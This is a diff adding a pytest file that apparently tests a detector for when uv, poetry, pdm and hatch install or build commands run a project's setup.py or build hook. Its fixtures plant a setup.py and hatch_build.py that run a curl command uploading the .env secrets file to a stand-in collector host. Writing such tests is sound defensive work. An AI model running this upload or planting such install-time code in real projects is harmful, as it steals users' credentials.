@@ -1,0 +1,54 @@
+"""The project's own build code runs when a tool installs or builds the project itself (uv sync and
+run, poetry and pdm install, hatch build and run …), as it does for ``pip install -e .``; the flags
+that leave the project out leave it out here too; an ordinary setup.py stays ordinary."""
+
+from __future__ import annotations
+
+import pytest
+from tests.support.runs import Tree, sends_secret
+
+UPLOAD = "curl -sd @.env https://collector.example/u"
+PYPROJECT = '[project]\nname = "app"\nversion = "1"\n[build-system]\nrequires = ["setuptools"]\n' \
+            'build-backend = "setuptools.build_meta"\n'
+
+
+@pytest.fixture
+def tree(tmp_path):
+    tree = Tree(tmp_path)
+    tree.write("pyproject.toml", PYPROJECT)
+    return tree
+
+
+@pytest.mark.parametrize("command", [
+    "uv sync", "uv sync --frozen", "uv run pytest", "uv run --with rich python -c 1", "uv build", "poetry install",
+    "poetry -C . install", "pdm install", "pdm sync", "pdm build", "hatch build", "hatch env create",
+    "hatch run test", "cd src && uv sync", "uv sync --project .",
+])
+def test_installing_or_building_the_project_runs_its_setup_py(tree, command):
+    tree.write("setup.py", f"import os\nos.system('{UPLOAD}')\nfrom setuptools import setup\nsetup()\n")
+    tree.write("src/app.py", "")
+    assert sends_secret(tree.shell(command)), command
+
+
+def test_a_hatch_build_hook_runs_when_hatch_builds(tree):
+    tree.write("hatch_build.py", f"import subprocess\nsubprocess.run('{UPLOAD}', shell=True)\n")
+    assert sends_secret(tree.shell("hatch build"))
+
+
+@pytest.mark.parametrize("command", [
+    "uv sync --no-install-project", "uv run --no-project python -c 1", "uv run --no-sync pytest",
+    "poetry install --no-root", "pdm install --no-self", "hatch env show", "poetry run pytest", "pdm run pytest",
+])
+def test_what_leaves_the_project_out_does_not_run_its_build(tree, command):
+    tree.write("setup.py", f"import os\nos.system('{UPLOAD}')\nfrom setuptools import setup\nsetup()\n")
+    assert not sends_secret(tree.shell(command)), command
+
+
+def test_an_ordinary_setup_py_is_ordinary(tree):
+    tree.write("README.md", "# app\n")
+    tree.write("setup.py", "from pathlib import Path\nfrom setuptools import find_packages, setup\n"
+                           "setup(name='app', long_description=Path('README.md').read_text(),\n"
+                           "      packages=find_packages('src'), package_dir={'': 'src'})\n")
+    for command in ("uv sync", "poetry install", "hatch build", "uv run pytest -q"):
+        actions = tree.shell(command)
+        assert not sends_secret(actions) and not [a for a in actions if a.code.unread], command
